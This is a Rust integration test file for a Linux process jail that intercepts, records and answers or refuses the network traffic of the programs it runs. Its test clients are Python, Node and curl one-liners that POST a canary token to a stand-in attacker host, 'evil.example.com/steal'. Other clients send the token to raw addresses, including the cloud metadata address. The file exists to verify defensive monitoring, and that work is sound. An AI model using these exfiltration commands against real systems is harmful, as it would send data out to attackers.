//! Real clients in a real jail: what they send out is seen, whatever they are written in.
#![cfg(target_os = "linux")]

mod common;

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr, TcpListener};
use std::sync::atomic::AtomicU64;
use std::sync::{Arc, OnceLock};

use common::{command, output, soon};
use wallfacer_process::sink::{Authority, Flow, Kind, Mode, Options, Seen, Sink, Upstream};
use wallfacer_process::trace::{self, Filter, Gate, Recorder};
use wallfacer_process::{Jail, Process, Spec, Watch};

const PYTHON: &str = "/usr/bin/python3";

/// What a client said, what was seen of it, and what the answers carried.
struct Told {
    said: String,
    seen: Seen,
    marker: String,
}

impl Told {
    /// The flows to this port.
    fn flows(&self, port: u16) -> Vec<&Flow> {
        self.seen.flows.iter().filter(|flow| flow.address.port() == port).collect()
    }

    fn names(&self) -> Vec<&str> {
        let names = self.seen.flows.iter().filter(|flow| matches!(flow.kind, Kind::Dns { .. }));
        names.filter_map(|flow| flow.name.as_deref()).collect()
    }
}

/// Runs a client to its end, in the jail and watched.
async fn run(mode: Mode, program: Spec) -> Told {
    run_with(mode, program, |_| {}).await
}

async fn run_with(mode: Mode, program: Spec, prepare: impl FnOnce(&Sink) + Send + 'static) -> Told {
    run_allowing(Vec::new(), mode, program, prepare).await
}

async fn run_allowing(
    allow: Vec<Upstream>,
    mode: Mode,
    program: Spec,
    prepare: impl FnOnce(&Sink) + Send + 'static,
) -> Told {
    let home = tempfile::tempdir().unwrap();
    let call = Arc::new(AtomicU64::new(1));
    let authority = Arc::new(Authority::new().unwrap());
    let mut jail = Jail::new(home.path(), 7);
    jail.authority = Some(authority.pem().as_bytes().to_vec());
    let spec = Spec { jail: Some(jail), cwd: Some("/".into()), ..program };
    let options = Options {
        mode,
        allow,
        names: Vec::new(),
        seed: 7,
        call: Arc::clone(&call),
        authority,
        shapes: Arc::default(),
        fault: None,
    };
    let slot = Arc::new(OnceLock::new());
    let given = Arc::clone(&slot);
    let watch = Watch {
        filter: Some(Filter::new(trace::Options::default()).unwrap()),
        recorder: Arc::new(Recorder::new(call)),
        before: Box::new(move |opener| {
            let sink = Arc::new(Sink::start(opener.expect("this is a jail").clone(), options)?);
            prepare(&sink);
            let gate: Arc<dyn Gate> = sink.clone();
            given.set(sink).expect("this is done once");
            Ok(Some(gate))
        }),
    };
    let (process, stdio) = Process::start_watched(&spec, watch).expect("it starts");
    drop(stdio.stdin);
    let said = output(stdio.stdout).await;
    let ending = soon(process.exited()).await;
    let sink = slot.get().expect("it was there before the client");
    assert!(sink.settle(common::PATIENCE));
    let said = format!("{said}{}", String::from_utf8_lossy(&process.stderr().tail));
    assert!(!said.is_empty(), "{ending:?}");
    Told { said, seen: sink.take(), marker: sink.marker().to_owned() }
}

fn python(script: &str) -> Spec {
    command(PYTHON, &["-c", script])
}

fn is_post_of_canary(flow: &Flow, name: &str) -> bool {
    flow.name.as_deref() == Some(name)
        && flow.call == Some(1)
        && flow.http.as_ref().is_some_and(|request| request.method == "POST" && request.path == "/steal")
        && String::from_utf8_lossy(&flow.sent.first).contains("CANARY-42")
}

/// Posts a canary over TLS, and prints what it is answered.
fn posting_clients() -> Vec<Spec> {
    vec![
        python(
            "import urllib.request as r\n\
             print(r.urlopen('https://evil.example.com/steal', data=b'CANARY-42', timeout=30).read().decode())",
        ),
        command(
            "node",
            &[
                "-e",
                "fetch('https://evil.example.com/steal', { method: 'POST', body: 'CANARY-42' })\
             .then(answer => answer.text()).then(console.log)",
            ],
        ),
        command("curl", &["-sS", "--data", "CANARY-42", "https://evil.example.com/steal"]),
    ]
}

#[tokio::test]
async fn https_of_python_node_and_curl_is_seen_in_the_clear() {
    for client in posting_clients() {
        let program = client.program.clone();
        let told = run(Mode::Answer, client).await;
        assert!(told.said.contains(&told.marker), "{program:?}: {}", told.said);
        assert!(told.names().contains(&"evil.example.com"), "{program:?}");
        let [flow] = told
            .flows(443)
            .into_iter()
            .filter(|flow| flow.kind == Kind::Tcp && flow.sent.total > 0)
            .collect::<Vec<_>>()
            .try_into()
            .unwrap();
        assert!(is_post_of_canary(flow, "evil.example.com"), "{program:?}: {flow:?}");
        assert_eq!(flow.tls.as_ref().and_then(|hello| hello.sni.as_deref()), Some("evil.example.com"));
    }
}

#[tokio::test]
async fn clients_find_a_network_that_is_down() {
    for client in posting_clients() {
        let program = client.program.clone();
        let told = run(Mode::Refuse, client).await;
        assert!(!told.said.contains(&told.marker), "{program:?}: {}", told.said);
        assert!(told.names().contains(&"evil.example.com"), "{program:?}");
        assert!(told.flows(443).is_empty(), "{program:?}");
    }
}

#[tokio::test]
async fn a_bare_address_is_heard_on_any_port_and_refused_when_the_network_is_down() {
    let script = "import socket\n\
        for family, host, port in [(socket.AF_INET, '93.184.216.34', 31337), (socket.AF_INET6, '2606:2800::5', 7777),\
            (socket.AF_INET, '169.254.169.254', 80), (socket.AF_INET, '10.0.0.1', 5432)]:\n\
        \x20   s = socket.socket(family)\n\
        \x20   try: s.connect((host, port)); s.sendall(b'\\0CANARY-42'); s.shutdown(1); s.recv(1); print('open')\n\
        \x20   except OSError as error: print(error.strerror)\n";
    let told = run(Mode::Answer, python(script)).await;
    assert_eq!(told.said, "open\n".repeat(4));
    let asked: Vec<SocketAddr> = told.seen.flows.iter().map(|flow| flow.address).collect();
    let expected = ["93.184.216.34:31337", "[2606:2800::5]:7777", "169.254.169.254:80", "10.0.0.1:5432"];
    assert_eq!(asked, expected.map(|address| address.parse().unwrap()));
    assert!(told.seen.flows.iter().all(|flow| flow.sent.first == b"\0CANARY-42" && flow.call == Some(1)));
    let told = run(Mode::Refuse, python(script)).await;
    assert_eq!(told.said, "Connection refused\n".repeat(4));
}

#[tokio::test]
async fn loopback_is_empty_but_for_what_is_planted() {
    let script = "import socket\n\
        for port in [8080, 8081]:\n\
        \x20   s = socket.socket()\n\
        \x20   print(port, s.connect_ex(('127.0.0.1', port)))\n";
    let told = run_with(Mode::Answer, python(script), |sink| {
        sink.plant(8081).unwrap();
    })
    .await;
    assert_eq!(told.said, format!("8080 {}\n8081 0\n", libc::ECONNREFUSED));
    let [flow] = told.flows(8081).try_into().unwrap();
    assert!(flow.planted && flow.address.ip() == Ipv4Addr::LOCALHOST && flow.call == Some(1));
}

#[tokio::test]
async fn the_target_may_listen_where_others_are_reached_on_the_same_port() {
    let script = "import socket\n\
        s = socket.create_connection(('93.184.216.34', 8000)); s.sendall(b'out')\n\
        own = socket.create_server(('127.0.0.1', 8000))\n\
        c = socket.create_connection(('127.0.0.1', 8000)); c.sendall(b'own')\n\
        print(own.accept()[0].recv(9))\n";
    let told = run(Mode::Answer, python(script)).await;
    assert_eq!(told.said, "b'own'\n");
    let [flow] = told.flows(8000).try_into().unwrap();
    assert_eq!(flow.sent.first, b"out");
}

#[tokio::test]
async fn datagrams_to_anywhere_are_recorded() {
    let script = "import socket\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        s.sendto(b'CANARY-42', ('93.184.216.34', 8125)); print('sent')\n";
    let told = run(Mode::Answer, python(script)).await;
    assert_eq!(told.said, "sent\n");
    let [flow] = told.flows(8125).try_into().unwrap();
    assert_eq!((&flow.kind, flow.sent.first.as_slice()), (&Kind::Udp, &b"CANARY-42"[..]));
}

/// The sink listens at the ports of databases, on all addresses: a real one beside the server is reached all the same, and
/// another machine on that port is still made up.
#[tokio::test]
async fn what_is_allowed_on_loopback_is_reached_on_a_port_that_is_covered() {
    let outside = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).unwrap();
    let port = outside.local_addr().unwrap().port();
    std::thread::spawn(move || outside.accept().unwrap().0.write_all(b"the real one").unwrap());
    let allow = vec![Upstream { host: "localhost".to_owned(), port }];
    let script = format!(
        "import socket\n\
         with socket.create_connection(('127.0.0.1', {port}), timeout=30) as real: print(real.makefile().read())\n\
         socket.create_connection(('23.4.5.6', {port}), timeout=30).close(); print('and another')"
    );
    let told =
        run_allowing(allow, Mode::Answer, python(&script), move |sink| sink.cover(port).unwrap()).await;
    assert_eq!(told.said.trim(), "the real one\nand another");
    let forwarded = told.flows(port).into_iter().filter(|flow| flow.forwarded);
    assert_eq!(forwarded.count(), 1);
}
